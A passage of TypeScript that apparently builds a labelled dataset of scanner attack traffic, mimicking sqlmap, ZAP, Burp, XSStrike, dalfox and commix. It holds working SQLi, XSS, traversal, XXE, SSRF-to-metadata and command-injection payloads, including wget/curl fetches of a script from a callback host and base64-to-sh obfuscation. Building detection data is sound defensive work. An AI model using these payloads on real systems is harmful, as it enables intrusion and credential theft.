    .replaceAll('[SCHEMA]', mysqlHex(pick(['shop', 'magento', 'wordpress', 'prestashop'])))
    .replaceAll('[HEUR]', Array.from({ length: 10 }, () => pick(['"', "'", ')', '(', ',', '.'])).join(''))
    .replaceAll('[ORIG]', orig)
    .replaceAll('[N]', String(int(1, 12)))
    .replaceAll('[D]', String(pick([5, 5, 5, 3, 10])))
    .replaceAll('[R2]', r[1]!)
    .replaceAll('[R3]', r[2]!)
    .replaceAll('[R4]', r[3]!)
    .replaceAll('[R5]', r[4]!)
    .replaceAll('[R6]', r[5]!)
    .replaceAll('[R]', r[0]!)
    .replaceAll('[S]', rstr())
    // Last, once the column's own placeholders are filled: the marker column among NULLs.
    .replace(/\[COLS:([^\]]*)\]/g, (_, col: string) => Array.from({ length: cols }, (_, i) => (i === pos ? col : 'NULL')).join(','))
}

const SQL_SLOTS: Record<Position, Array<{ names: string[]; numeric: string[]; text: string[] }>> = {
  query: [{ names: ['id', 'cat', 'product_id', 'pid', 'item', 'page_id', 'sort', 'q', 'search', 'category'], numeric: ['1', '2', '5', '13', '42', '107'], text: ['shoes', 'name', 'price', 'red', 'books'] }],
  form: [{ names: ['username', 'email', 'user', 'login', 'password', 'id', 'zip'], numeric: ['1', '10001', '3'], text: ['admin', 'jane@example.com', 'test', 'guest'] }],
  json: [{ names: ['id', 'productId', 'user', 'filter', 'orderId', 'query'], numeric: ['1', '17', '204'], text: ['shoes', 'admin', 'pending'] }],
  cookie: [{ names: ['id', 'user_id', 'lang', 'cart', 'tracking', 'currency'], numeric: ['1', '31', '8'], text: ['en', 'EUR', 'guest'] }],
  header: [{ names: ['user-agent', 'referer', 'x-forwarded-for'], numeric: [], text: [] }],
  path: [{ names: ['id'], numeric: ['1', '12', '305'], text: ['shoes', 'summer-sale'] }],
}

function sqlmap(count: number): void {
  for (let n = 0; n < count; n++) {
    const t = pick(SQL_TEMPLATES)
    const boundary = t.where === 3 || t.technique === 'heuristic' ? B('', '') : pick(t.comment ? COMMENT_BOUNDARIES : BOUNDARIES)
    const at = drawPosition([['query', 40], ['form', 18], ['json', 14], ['cookie', 10], ['header', 10], ['path', 8]])
    const slotKind = SQL_SLOTS[at][0]!
    const name = pick(slotKind.names)
    let original: string
    if (at === 'header') {
      original = name === 'user-agent' ? pick(UAS) : name === 'referer' ? `https://${HOST}/product.php?id=${int(1, 99)}` : `203.0.113.${int(2, 250)}`
    } else {
      original = boundary.text ? pick(slotKind.text) : pick(slotKind.numeric)
    }
    // The header's whole value is its original (a User-Agent, a Referer) plus the injection.
    if (t.where === 2 && at !== 'header') original = `-${rnum()}`
    const cols = int(1, 10)
    // A space before the payload, except where sqlmap glues it on: a replaced value, a heuristic probe, `,…` and `;…`.
    const glued = t.where === 3 || t.technique === 'heuristic' || /^[,;]/.test(t.text)
    const injected = fillSql(`${boundary.prefix}${glued ? '' : ' '}${t.text}${boundary.suffix}`, original, cols)
    const R9 = rnum()
    const S9 = rstr()
    // sqlmap tampers the whole parameter value; in a header only what follows the browser's own value, which it keeps.
    const kept = at === 'header' && t.where !== 3 ? original : ''
    let value = (t.where === 3 || kept !== '' ? injected : `${original}${injected}`).replaceAll('[R9]', R9).replaceAll('[S9]', S9)
    // A tamper chain: none, one script or a common chain.
    const roll = rand()
    let names: string[] = []
    if (roll < 0.22) names = []
    else if (roll < 0.78) {
      const fits = TAMPERS.filter((tp) => tp.fits === undefined || tp.fits(value))
      names = [pick(fits).name]
    } else names = pick(CHAINS).split(',')
    let pre = false
    for (const nm of names) {
      const tp = tamperByName.get(nm)!
      if (tp.fits !== undefined && !tp.fits(value)) continue
      value = tp.apply(value)
      pre ||= tp.pre
    }
    if (at === 'header' && pre) value = decodeURIComponentSafe(value)
    value = kept + value
    const variant = names.length === 0 ? 'none' : names.join(',')
    const numericJson = at === 'json' && !boundary.text && t.where !== 3 && rand() < 0.4
    const req = place(at, { name, original }, value, 'sqlmap', pre, numericJson)
    emit('sqlmap', 'sqli', `${t.technique}/${t.dbms}`, variant, `${t.technique}:${t.dbms}:${t.name}`, value, at, req)
  }
}
function decodeURIComponentSafe(s: string): string {
  try {
    return decodeURIComponent(s)
  } catch {
    return s
  }
}

// --- Other tools: payload lists per tool, placed where that tool injects ---------------------

interface Probe {
  technique: string
  payload: string
  /** Added to the original value (`value + payload`) rather than replacing it. */
  append?: boolean
  variant?: string
}
interface ToolSpec {
  tool: string
  cls: string
  enc: Encoding
  /** Parameter names the tool finds on the pages it scans. */
  names: string[]
  originals: string[]
  positions: ReadonlyArray<readonly [Position, number]>
  /** Headers it injects into, for `header` positions. */
  headerNames?: string[]
  probes: Probe[]
  /** Placements per probe. */
  each: number
}
function runTool(spec: ToolSpec): void {
  for (const probe of spec.probes) {
    for (let k = 0; k < spec.each; k++) {
      const at = drawPosition(spec.positions)
      const original = pick(spec.originals)
      const name = at === 'header' ? pick(spec.headerNames ?? ['user-agent', 'referer']) : pick(spec.names)
      const pre = /%(?:[0-9a-fA-F]{2}|u[0-9a-fA-F]{4})/.test(probe.payload)
      let value = probe.append ? `${original}${probe.payload}` : probe.payload
      if (at === 'header' && pre && spec.enc !== 'raw') value = decodeURIComponentSafe(value)
      const req = place(at, { name, original }, value, spec.enc, pre)
      emit(spec.tool, spec.cls, probe.technique, probe.variant ?? 'none', `${probe.technique}:${probe.payload}`, value, at, req)
    }
  }
}
const P = (technique: string, payload: string, append = false, variant?: string): Probe => ({ technique, payload, append, variant })
const OAST = (): string => `${alnum(20).toLowerCase()}.oast.fun`
const COLLAB = (): string => `${alnum(20).toLowerCase()}.oastify.com`

/** OWASP ZAP active scan: its SQL, XSS, traversal, RFI, command, SSTI, CRLF, SSRF probes. */
function zap(): void {
  const common = { enc: 'form' as const, originals: ['1', 'shoes', 'ZAP', 'test', 'en'], positions: [['query', 45], ['form', 30], ['json', 10], ['cookie', 10], ['header', 5]] as const, each: 3 }
  runTool({
    ...common,
    tool: 'zap',
    cls: 'sqli',
    names: ['id', 'q', 'username', 'cat', 'order'],
    probes: [
      P('boolean', ' AND 1=1 -- ', true),
      P('boolean', ' OR 1=1 -- ', true),
      P('boolean', "' AND '1'='1' -- ", true),
      P('boolean', "' OR '1'='1' -- ", true),
      P('boolean', '" AND "1"="1" -- ', true),
      P('boolean', '% AND 1=1 -- ', true),
      P('boolean', "%' AND '%'='", true),
      P('union', "' UNION ALL select NULL -- ", true),
      P('union', ' UNION ALL select NULL,NULL -- ', true),
      P('time/mysql', ' / sleep(15) ', true),
      P('time/mysql', "' / sleep(15) / '", true),
      P('time/mysql', "' and 0 in (select sleep(15) ) -- ", true),
      P('time/mysql', "' or sleep(15) #", true),
      P('time/mysql', ' where 0 in (select sleep(15) ) -- ', true),
      P('time/postgresql', ' / cast(pg_sleep(15) as varchar) / ', true),
      P('time/postgresql', "case when cast(pg_sleep(15) as varchar) > '' then 0 else 1 end"),
      P('time/postgresql', "' and 0 in (select pg_sleep(15) ) -- ", true),
      P('time/mssql', " WAITFOR DELAY '0:0:15' ", true),
      P('time/mssql', "') WAITFOR DELAY '0:0:15' -- ", true),
      P('time/mssql', "\" WAITFOR DELAY '0:0:15' -- ", true),
      P('time/oracle', " * (SELECT UTL_INADDR.get_host_name('10.0.0.1') from dual)", true),
      P('time/oracle', "' * (SELECT UTL_INADDR.get_host_name('10.0.0.1') from dual) -- ", true),
      P('time/hypersonic', "; select \"java.lang.Thread.sleep\"(15000) from INFORMATION_SCHEMA.SYSTEM_COLUMNS where TABLE_NAME = 'SYSTEM_COLUMNS' and COLUMN_NAME = 'TABLE_NAME' -- ", true),
      P('time/sqlite', ' case randomblob(100000000) when not null then 1 else 1 end ', true),
      P('time/sqlite', "' | case randomblob(100000000) when not null then \"\" else \"\" end | '", true),
      P('error', "'\"", true),
      P('error', "')", true),
      P('error', "\";", true),
      P('error', "'(", true),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'xss',
    names: ['q', 'search', 'name', 'comment', 'message', 'redirect'],
    probes: [
      P('script-tag', '<scrIpt>alert(1);</scRipt>'),
      P('breakout', '"><scrIpt>alert(1);</scRipt>'),
      P('breakout', "'\"><scrIpt>alert(1);</scRipt>"),
      P('breakout', '</p><scrIpt>alert(1);</scRipt><p>'),
      P('breakout', '</textarea><scrIpt>alert(1);</scRipt><textarea>'),
      P('script-url', 'javascript:alert(1);'),
      P('js-context', "';alert(1);'"),
      P('js-context', '";alert(1);"'),
      P('attribute', '" onMouseOver="alert(1);'),
      P('attribute', "' onMouseOver='alert(1);"),
      P('img-handler', '<img src=x onerror=prompt()>'),
      P('newline', '\n<scrIpt>alert(1);</scRipt>\n'),
      P('svg', '"\'><svg/onload=alert(1)//'),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'path_traversal',
    names: ['file', 'page', 'template', 'path', 'doc', 'lang', 'include'],
    originals: ['index.html', 'about.php', 'en'],
    probes: [
      P('unix', '/etc/passwd'),
      P('unix', '../../../../../../../../../../../../../../../../etc/passwd'),
      P('unix', '/../../../../../../../../../../../../../../../../etc/passwd'),
      P('unix', '..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd', false, 'url-encoded'),
      P('windows', 'c:/Windows/system.ini'),
      P('windows', '../../../../../../../../../../../../../../../../Windows/system.ini'),
      P('windows', '..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\Windows\\system.ini'),
      P('windows', 'c:\\Windows\\system.ini'),
      P('web-inf', 'WEB-INF/web.xml'),
      P('web-inf', '/WEB-INF/web.xml'),
      P('web-inf', '../../WEB-INF/web.xml'),
      P('file-url', 'file:///etc/passwd'),
      P('file-url', 'file:///c:/Windows/system.ini'),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'rfi',
    names: ['file', 'page', 'include', 'template', 'url'],
    originals: ['home', 'index.php'],
    probes: [
      P('rfi', 'http://www.google.com/'),
      P('rfi', 'http://www.google.com:80/'),
      P('rfi', 'HTTP://WWW.GOOGLE.COM/'),
      P('rfi', 'http://www.google.com/search?q=OWASP%20ZAP', false, 'url-encoded'),
      P('rfi', 'http://www.google.com/?'),
      P('rfi', 'http://www.google.com%00', false, 'null-byte'),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'rce',
    names: ['ip', 'host', 'addr', 'domain', 'file', 'name'],
    originals: ['127.0.0.1', 'example.com', 'report.pdf'],
    probes: [
      P('unix-chain', ';cat /etc/passwd', true),
      P('unix-chain', '&cat /etc/passwd&', true),
      P('unix-chain', '|cat /etc/passwd', true),
      P('unix-chain', "'&cat /etc/passwd&'", true),
      P('unix-chain', '"&cat /etc/passwd&"', true),
      P('unix-chain', ';cat /etc/passwd;', true),
      P('unix-subst', '`cat /etc/passwd`', true),
      P('unix-subst', '$(cat /etc/passwd)', true),
      P('unix-newline', '\ncat /etc/passwd\n', true),
      P('windows-chain', '&type %SYSTEMROOT%\\win.ini', true),
      P('windows-chain', '|type %SYSTEMROOT%\\win.ini', true),
      P('windows-chain', '"&type %SYSTEMROOT%\\win.ini&"', true),
      P('powershell', ';get-help', true),
      P('powershell', '"|get-help', true),
      P('time-unix', '&sleep 15&', true),
      P('time-unix', ';sleep 15;', true),
      P('time-unix', '|sleep 15', true),
      P('time-unix', '`sleep 15`', true),
      P('time-windows', '&timeout /T 15&', true),
      P('time-windows', '|timeout /T 15', true),
      P('time-powershell', ';start-sleep -s 15', true),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'ssti',
    names: ['name', 'greeting', 'q', 'template', 'email'],
    probes: [
      P('arith', '${7*7}'),
      P('arith', '{{7*7}}'),
      P('arith', '<%= 7*7 %>'),
      P('arith', '#{7*7}'),
      P('arith', '{{=7*7}}'),
      P('arith', '${{7*7}}'),
      P('arith', '{@7*7}'),
      P('arith', '{{7*\'7\'}}'),
      P('arith', '@(7*7)'),
      P('arith', "{#7*7}"),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'crlf',
    names: ['redirect', 'url', 'next', 'lang', 'q'],
    probes: [
      P('crlf', '\r\nSet-cookie: Tamper=5a7a4d2e-9b31-4e2f-a0e1-3c1d2b4f5e6a'),
      P('crlf', '\r\nSet-cookie: Tamper=5a7a4d2e\r\n'),
      P('crlf', '%0d%0aSet-cookie:%20Tamper=5a7a4d2e', false, 'url-encoded'),
      P('crlf', '\nSet-cookie: Tamper=5a7a4d2e'),
      P('crlf', '%0aSet-cookie:%20Tamper=5a7a4d2e', false, 'url-encoded'),
    ],
  })
  runTool({
    ...common,
    tool: 'zap',
    cls: 'xxe',
    names: ['xml'],
    positions: [['form', 1]],
    probes: [
      P('local-file', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY zapxxe SYSTEM "file:///etc/passwd">]><foo>&zapxxe;</foo>'),
      P('local-file', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY zapxxe SYSTEM "file:///c:/Windows/system.ini">]><foo>&zapxxe;</foo>'),
      P('oob', `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % zapxxe SYSTEM "http://${OAST()}/xxe">%zapxxe;]><foo/>`),
      P('xinclude', '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'),
    ],
  })
}

/** XML bodies as scanners post them to an XML endpoint (ZAP, Burp, nuclei). */
function xxeBodies(): void {
  const bodies: Array<[string, string, string]> = [
    ['zap', 'local-file', '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [\n<!ENTITY zapxxe SYSTEM "file:///etc/passwd">\n]>\n<order><id>&zapxxe;</id></order>'],
    ['zap', 'local-file-win', '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY zapxxe SYSTEM "file:///c:/Windows/system.ini">]><order><id>&zapxxe;</id></order>'],
    ['burp', 'oob-parameter-entity', `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE order [<!ENTITY % x SYSTEM "http://${COLLAB()}/">%x;]><order><id>1</id></order>`],
    ['burp', 'oob-entity', `<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "http://${COLLAB()}/">]><order><id>&x;</id></order>`],
    ['burp', 'xinclude', '<order xmlns:xi="http://www.w3.org/2001/XInclude"><id><xi:include parse="text" href="file:///etc/passwd"/></id></order>'],
    ['nuclei', 'php-filter', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><r>&x;</r>'],
    ['nuclei', 'svg-upload', '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg"><text font-size="16" x="0" y="16">&x;</text></svg>'],
    ['nuclei', 'dtd-remote', `<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://${OAST()}/evil.dtd"><r>1</r>`],
    ['nuclei', 'billion-laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>'],
    ['burp', 'soap-entity', '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getOrder><id>&xxe;</id></getOrder></soap:Body></soap:Envelope>'],
  ]
  for (const [tool, technique, body] of bodies) {
    for (let k = 0; k < 3; k++) {
      const headers = { ...baseHeaders(), 'content-type': pick(['application/xml', 'text/xml', 'application/soap+xml']) }
      emit(tool, 'xxe', technique, 'none', `xxe:${technique}`, body, 'form', { method: 'POST', uri: pick(['/api/orders', '/soap/OrderService', '/upload/avatar', '/xmlrpc.php']), headers, body })
    }
  }
}

/** Burp Scanner: its SQL, XSS, command, traversal, SSTI, SSRF and Collaborator probes. */
function burp(): void {
  const common = { tool: 'burp', enc: 'minimal' as const, originals: ['1', 'shoes', 'test'], positions: [['query', 40], ['form', 25], ['json', 15], ['cookie', 10], ['header', 5], ['path', 5]] as const, headerNames: ['referer', 'user-agent', 'x-forwarded-for'], each: 3 }
  runTool({
    ...common,
    cls: 'sqli',
    names: ['id', 'q', 'user', 'sort'],
    probes: [
      P('error', "'", true),
      P('error', "''", true),
      P('boolean', "' and '7'='7", true),
      P('boolean', "' and '7'='2", true),
      P('boolean', ' and 3=3', true),
      P('boolean', "' or 'x'='x", true),
      P('boolean', '"||"', true),
      P('time/mysql', "'+(select*from(select(sleep(20)))a)+'", true),
      P('time/mysql', ' and (select*from(select(sleep(20)))a)', true),
      P('time/mssql', "'waitfor delay'0:0:20'--", true),
      P('time/mssql', ";waitfor delay'0:0:20'--", true),
      P('time/postgresql', "'||pg_sleep(20)--", true),
      P('time/oracle', "'||dbms_pipe.receive_message(chr(98),20)||'", true),
      P('oob/mssql', `';exec master..xp_dirtree '//${COLLAB()}/a'--`, true),
      P('oob/oracle', `'||(select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % x SYSTEM "http://${COLLAB()}/">%x;]>'),'/l') from dual)||'`, true),
      P('oob/mysql', `'+(select load_file('\\\\\\\\${COLLAB()}\\\\a'))+'`, true),
      P('oob/postgresql', `';copy (select '') to program 'nslookup ${COLLAB()}'--`, true),
      P('arith', '-0', true),
      P('arith', '*1', true),
    ],
  })
  runTool({
    ...common,
    cls: 'xss',
    names: ['q', 'search', 'name', 'returnUrl', 'msg'],
    probes: [
      P('breakout', `${alnum(5).toLowerCase()}"><script>alert(1)</script>${alnum(5).toLowerCase()}`, true),
      P('breakout', `${alnum(5).toLowerCase()}'><script>alert(1)</script>${alnum(5).toLowerCase()}`, true),
      P('attribute', `${alnum(5).toLowerCase()}"onmouseover="alert(1)"${alnum(5).toLowerCase()}`, true),
      P('attribute', `${alnum(5).toLowerCase()}' autofocus onfocus=alert(1) '`, true),
      P('js-context', "';alert(1)//", true),
      P('js-context', "'-alert(1)-'", true),
      P('js-context', '\\\';alert(1)//', true),
      P('script-close', '</script><script>alert(1)</script>', true),
      P('script-url', 'javascript:alert(1)'),
      P('img-handler', '"><img src=a onerror=alert(1)>', true),
      P('svg', '<svg onload=alert(1)>'),
      P('template', '{{constructor.constructor(\'alert(1)\')()}}'),
      P('blind', `"><script src=https://${COLLAB()}></script>`),
    ],
  })
  runTool({
    ...common,
    cls: 'rce',
    names: ['host', 'ip', 'file', 'email'],
    originals: ['127.0.0.1', 'shop.example'],
    probes: [
      P('time', '|ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #\' |ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #" |ping -n 21 127.0.0.1', true),
      P('time', '& ping -n 21 127.0.0.1 &', true),
      P('time', ';sleep 20;', true),
      P('oob', `|nslookup -q=cname ${COLLAB()}&`, true),
      P('oob', `;nslookup ${COLLAB()};`, true),
      P('oob', `$(nslookup ${COLLAB()})`, true),
      P('oob', `\`nslookup ${COLLAB()}\``, true),
      P('oob', `'"\`0&nslookup ${COLLAB()}&\`'`, true),
      P('oob', `&nslookup ${COLLAB()}&'\\"\`0&nslookup ${COLLAB()}&\`'`, true),
    ],
  })
  runTool({
    ...common,
    cls: 'path_traversal',
    names: ['file', 'filename', 'path', 'image'],
    originals: ['photo.jpg', 'invoice.pdf'],
    probes: [
      P('unix', '../../../../../../../../../../../../../../../../etc/passwd'),
      P('unix', '../../../../../../../../../../../../../../../../etc/passwd%00.jpg', false, 'null-byte'),
      P('unix', '....//....//....//....//....//etc/passwd', false, 'nested'),
      P('unix', '..%252f..%252f..%252f..%252fetc%252fpasswd', false, 'double-encoded'),
      P('unix', '..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd', false, 'overlong'),
      P('windows', '..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini'),
      P('windows', '/..%5c..%5c..%5c..%5c..%5cwindows%5cwin.ini', false, 'url-encoded'),
      P('unix', '/etc/passwd'),
    ],
  })
  runTool({
    ...common,
    cls: 'ssti',
    names: ['name', 'q', 'template'],
    probes: [
      P('arith', `${alnum(4).toLowerCase()}{{${int(10, 99)}*${int(10, 99)}}}${alnum(4).toLowerCase()}`, true),
      P('arith', `${alnum(4).toLowerCase()}\${${int(10, 99)}*${int(10, 99)}}${alnum(4).toLowerCase()}`, true),
      P('arith', `${alnum(4).toLowerCase()}<%= ${int(10, 99)}*${int(10, 99)} %>${alnum(4).toLowerCase()}`, true),
      P('polyglot', '${{<%[%\'"}}%\\.'),
    ],
  })
  runTool({
    ...common,
    cls: 'ssrf',
    names: ['url', 'image', 'callback', 'webhook', 'feed', 'next'],
    originals: ['https://shop.example/'],
    probes: [
      P('oob', `http://${COLLAB()}/`),
      P('oob', `https://${COLLAB()}/?`),
      P('metadata', 'http://169.254.169.254/latest/meta-data/'),
      P('metadata', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
      P('localhost', 'http://127.0.0.1:22/'),
      P('localhost', 'http://localhost/admin'),
    ],
  })
}

/** XSStrike and dalfox: generated tag/handler/filler/function combinations and their breakouts. */
function xssTools(): void {
  const tags = ['d3v', 'a', 'details', 'html', 'svg', 'img', 'input', 'body', 'audio', 'video', 'iframe', 'xss', 'marquee', 'select', 'math']
  const handlers = ['onpointerenter', 'onmouseover', 'onfocus', 'ontoggle', 'onload', 'onerror', 'onauxclick', 'onanimationstart', 'onbegin', 'onpageshow', 'onloadstart', 'onmouseenter', 'onpointerover']
  const fillers = ['%09', '%0a', '%0d', '/+/', '%0c', ' ', '/']
  const functions = ['confirm()', '(confirm)()', 'co\\u006efirm()', '(prompt)``', '[8].find(confirm)', 'a=prompt,a()', 'top[8680439..toString(30)](1)', 'confirm`1`', 'alert(document.domain)', 'prompt(1)', '[1].map(alert)', 'window["al"+"ert"](1)', "top[/al/.source+/ert/.source](1)", 'eval(atob`YWxlcnQoMSk=`)', 'self[`al`+`ert`](1)', 'alert?.(1)']
  const ends = ['//', '>', 'x>', '//>', ' ']
  const enc = (): Encoding => 'form'
  const slots = ['q', 'search', 'name', 'query', 'keyword', 'message', 'title']
  for (let n = 0; n < 360; n++) {
    const tool = rand() < 0.5 ? 'xsstrike' : 'dalfox'
    const tag = pick(tags)
    const handler = pick(handlers)
    const f1 = pick(fillers)
    // Around `=` XSStrike puts only blanks (`%09`, `%0a`, `%0d`, a space): `/` there would end the attribute.
    const f2 = pick(['%09', '%0a', '%0d', ' ', ' ', '%0c', ' '])
    const fn = pick(functions)
    const caseMix = rand() < 0.4
    const h = caseMix ? randomCase(handler) : handler
    const tg = caseMix ? randomCase(tag) : tag
    const extra = tag === 'details' ? `${f1}open` : tag === 'img' || tag === 'audio' || tag === 'video' ? `${f1}src=x` : tag === 'input' ? `${f1}autofocus` : ''
    const core = `<${tg}${extra}${f1}${h}${f2}=${f2}${fn}${tool === 'dalfox' ? ' class=dalfox' : ''}${pick(ends)}`
    const breakout = pick(['', '', '">', "'>", '"><', '</script>', '-->', '</textarea>', '</title>'])
    const payload = breakout === '"><' ? `">${core}` : `${breakout}${core}`
    const at = drawPosition([['query', 60], ['form', 20], ['json', 10], ['path', 5], ['header', 5]])
    const pre = /%[0-9a-f]{2}/i.test(payload)
    const value = at === 'header' ? decodeURIComponentSafe(payload) : payload
    const variant = [f1 !== ' ' || f2 !== ' ' ? 'fillers' : 'spaces', caseMix ? 'mixed-case' : ''].filter(Boolean).join(',')
    emit(tool, 'xss', `generated/${tag}`, variant, `gen:${tag}:${handler}:${fn}:${breakout}`, value, at, place(at, { name: pick(slots), original: '' }, value, enc(), pre))
  }
  const fixed: Array<[string, string, string]> = [
    ['xsstrike', 'script-url', 'javaSCRIPT%0a:confirm()'],
    ['xsstrike', 'script-url', 'jav%09ascript:alert(1)'],
    ['xsstrike', 'script-url', 'java%0d%0ascript%0d%0a:alert(document.cookie)'],
    ['xsstrike', 'script-url', '&#x6a;avascript:alert(1)'],
    ['xsstrike', 'script-url', 'javascript&colon;alert(1)'],
    ['xsstrike', 'script-url', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;confirm()'],
    ['xsstrike', 'href', '<a%09href="j&#x61;vascript:confirm()">click'],
    ['xsstrike', 'href', '<a href=javas&#99;ript:alert(1)>x</a>'],
    ['xsstrike', 'js-context', "';confirm()//"],
    ['xsstrike', 'js-context', "'-confirm()-'"],
    ['xsstrike', 'js-context', '"-confirm``-"'],
    ['xsstrike', 'js-context', '</script><svg%0aonload=confirm()>'],
    ['xsstrike', 'js-context', "\\';[8].find(confirm)//"],
    ['dalfox', 'breakout', '"><svg/onload=alert(45)>'],
    ['dalfox', 'breakout', '\'"><img src=x onerror=alert(45) class=dalfox>'],
    ['dalfox', 'attribute', '" onmouseover=alert(45) class=dalfox '],
    ['dalfox', 'attribute', "' onfocus=alert(45) autofocus class=dalfox '"],
    ['dalfox', 'attribute', '"autofocus/onfocus=alert(45)//'],
    ['dalfox', 'iframe-srcdoc', '\'><iframe srcdoc="<input onauxclick=alert(45)>" class=dalfox></iframe>'],
    ['dalfox', 'handler', '<img/src/onerror=.1|alert``class=dalfox>'],
    ['dalfox', 'handler', '<iMg src=x oNeRRor=alert`1`>'],
    ['dalfox', 'mutation', '<xmp><p title="</xmp><svg/onload=alert(45) class=dalfox>">'],
    ['dalfox', 'mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(45)>'],
    ['dalfox', 'mutation', '<noscript><p title="</noscript><img src=x onerror=alert(45)>">'],
    ['dalfox', 'svg', '<svg><animate onbegin=alert(45) attributeName=x dur=1s>'],
    ['dalfox', 'svg', '<svg><a xlink:href="javascript:alert(45)"><text x="20" y="20">XSS</text></a>'],
    ['dalfox', 'entity-handler', '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>'],
    ['dalfox', 'entity-handler', '<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;(45)>'],
    ['dalfox', 'entity-handler', '<a href="#" onclick="&#x61;lert(45)">x</a>'],
    ['dalfox', 'blind', `"><script src=https://${OAST()}></script>`],
    ['dalfox', 'blind', `'><script>$.getScript("//${OAST()}")</script>`],
    ['dalfox', 'template', '{{constructor.constructor("alert(45)")()}}'],
    ['dalfox', 'template', "{{$on.constructor('alert(45)')()}}"],
    ['dalfox', 'dom', '#"><img src=x onerror=alert(45)>'],
    ['dalfox', 'body', '<body onpageshow=alert(45)>'],
    ['dalfox', 'style', '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(45)"></xss>'],
    ['dalfox', 'object', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCg0NSk8L3NjcmlwdD4="></object>'],
    ['dalfox', 'base', '<base href="javascript:/a/-alert(45)///////"><a href=../lol/safari.html>test</A>'],
  ]
  for (const [tool, technique, payload] of fixed) {
    for (let k = 0; k < 4; k++) {
      const at = drawPosition([['query', 60], ['form', 20], ['json', 10], ['cookie', 5], ['header', 5]])
      const pre = /%[0-9a-f]{2}/i.test(payload)
      const value = at === 'header' || at === 'json' ? decodeURIComponentSafe(payload) : payload
      emit(tool, 'xss', technique, pre ? 'url-encoded' : 'none', `${technique}:${payload}`, value, at, place(at, { name: pick(slots), original: '' }, value, 'form', pre))
    }
  }
}

/** commix: classic results-based, eval-based, time-based and file-based, with its obfuscations. */
function commix(): void {
  const seps = [';', '%0a', '%26', '|', '%26%26', '||', '%3B', '%0d%0a']
  const spaceForms: Array<[string, string]> = [[' ', 'none'], ['${IFS}', 'ifs-braces'], ['$IFS', 'ifs'], ['$IFS$9', 'ifs-9'], ['%09', 'tab'], ['<', 'redirect']]
  const commands = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'pwd', 'cat /etc/hosts', 'nslookup [OAST]', 'curl http://[OAST]/', 'wget http://[OAST]/x.sh -O /tmp/x.sh', 'ping -c 5 127.0.0.1', 'ifconfig', 'ps aux', 'echo [TOKEN]$(([A]+[B]))$(echo [TOKEN])[TOKEN]', 'sleep [D]', 'str=$(echo [TOKEN]);str1=${#str};if [ [L] -ne ${str1} ];then sleep 0;else sleep [D];fi']
  const obfuscate: Array<[string, (cmd: string) => string]> = [
    ['none', (c) => c],
    ['single-quotes', (c) => c.replace(/^(\w)(\w+)/, "$1'$2'").replace(/\/etc\/passwd/, "/e't'c/pa's's'wd")],
    ['double-quotes', (c) => c.replace(/^(\w)(\w)/, '$1"$2"')],
    ['backslash', (c) => c.replace(/^(\w)(\w)/, '$1\\$2').replace(/\/etc\/passwd/, '/e\\tc/pa\\sswd')],
    ['dollar-at', (c) => c.replace(/^(\w)(\w)/, '$1$@$2')],
    ['glob', (c) => c.replace(/^cat \/etc\/passwd$/, '/???/c?t /???/p??s??').replace(/^id$/, '/usr/bin/i?')],
    ['brace-expansion', (c) => (/^\w+ \S+$/.test(c) ? `{${c.replace(' ', ',')}}` : c)],
    ['base64', (c) => `echo ${Buffer.from(c).toString('base64')}|base64 -d|sh`],
    ['rev', (c) => `$(echo ${[...c].reverse().join('')}|rev)`],
    ['printf-hex', (c) => `$(printf '${[...c].map((x) => `\\x${x.charCodeAt(0).toString(16)}`).join('')}')`],
  ]
  const forms: Array<[string, (sep: string, body: string) => string]> = [
    ['separator', (sep, body) => `${sep}${body}`],
    ['separator-trailing', (sep, body) => `${sep}${body}${sep}`],
    ['substitution', (_, body) => `$(${body})`],
    ['backticks', (_, body) => `\`${body}\``],
    ['quote-break', (sep, body) => `'${sep}${body}${sep}'`],
